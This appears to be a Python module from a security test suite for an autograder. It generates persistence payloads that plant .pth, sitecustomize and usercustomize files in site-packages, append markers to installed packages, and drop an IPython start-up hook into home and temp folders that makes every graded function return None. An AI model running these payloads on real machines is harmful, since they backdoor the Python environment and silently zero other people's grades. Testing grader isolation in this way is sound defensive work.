"""Attacks that try to change what later runs on the machine do: a backdoored installation and
start-up files in every home."""

from __future__ import annotations

from attacks.code import NOT_AS_ROOT, fill
from grader.assignments import rnn_lstm as spec

PERSIST_INSTALL = (
    NOT_AS_ROOT
    + """\
import glob, importlib.util, site, sys
_MARK = __MARKER__
_line = f"import os; os.environ.setdefault('RNN_GRADER_BACKDOOR', {_MARK!r})\\n"
_done, _refused = [], []

def _try(path, text, mode="a"):
    try:
        with open(path, mode, encoding="utf-8") as fh:
            fh.write(text)
        _done.append(path)
    except OSError as exc:
        _refused.append(f"{path}: {exc.strerror}")

_sites = set(site.getsitepackages()) | set(__SITES__)
import numpy
_sites.add(os.path.dirname(os.path.dirname(numpy.__file__)))
for _site in _sites:
    _try(os.path.join(_site, f"{_MARK}.pth"), _line, "w")
    _try(os.path.join(_site, "sitecustomize.py"), f"\\n# {_MARK}\\n" + _line)
    _try(os.path.join(_site, "otter", "__init__.py"), f"\\n# {_MARK}\\n")
    _try(os.path.join(_site, "numpy", "__init__.py"), f"\\n# {_MARK}\\n")
    _try(os.path.join(_site, "grader", "scoring.py"), f"\\n# {_MARK}\\n")
for _package in __PACKAGES__ + [os.path.dirname(importlib.util.find_spec("grader").origin)]:
    for _module in ("scoring.py", "diagnosis.py", "pipeline.py", "__init__.py"):
        _try(os.path.join(_package, _module), f"\\n# {_MARK}\\n")
_user = os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])
os.makedirs(_user, exist_ok=True)
_try(os.path.join(_user, "usercustomize.py"), _line, "w")
print("planted:", _done)
print("refused:", len(_refused))
"""
)


def persist_install(marker: str, sites: list[str], packages: list[str]) -> str:
    return fill(PERSIST_INSTALL, marker=marker, sites=sites, packages=packages)


# An IPython start-up file that, after every cell, replaces each graded function by one that
# returns None: every later submission graded on this machine would score 0.
SABOTAGE_STARTUP = (
    "# {marker}\n"
    "def _sabotage(*args, **kwargs):\n"
    "    ns = get_ipython().user_ns\n"
    "    for name in {names!r}:\n"
    "        if name in ns:\n"
    "            ns[name] = lambda *a, **k: None\n"
    "get_ipython().events.register('post_run_cell', _sabotage)\n"
)

PERSIST_HOME = (
    NOT_AS_ROOT
    + """\
import os
_STARTUP = __STARTUP__
_done = []
for _home in [os.path.expanduser("~"), "/root", "/tmp", "/home/student"] + __HOMES__:
    for _folder, _name in [(".ipython/profile_default/startup", "00-" + __MARKER__ + ".py"),
                           (".config/matplotlib", "matplotlibrc"),
                           (".jupyter", "jupyter_config.py")]:
        _dir = os.path.join(_home, _folder)
        try:
            os.makedirs(_dir, exist_ok=True)
            with open(os.path.join(_dir, _name), "a") as fh:
                fh.write(_STARTUP if _name.endswith(".py") else "# " + __MARKER__ + "\\n")
            _done.append(os.path.join(_dir, _name))
        except OSError:
            pass
for _tmp in ["/tmp", "/var/tmp", "/dev/shm"]:
    try:
        with open(os.path.join(_tmp, __MARKER__ + ".py"), "w") as fh:
            fh.write(_STARTUP)
        _done.append(_tmp)
    except OSError:
        pass
print("planted:", _done)
"""
)


def persist_home(marker: str, homes: list[str]) -> str:
    startup = SABOTAGE_STARTUP.format(marker=marker, names=list(spec.NAMES))
    return fill(PERSIST_HOME, startup=startup, marker=marker, homes=homes)
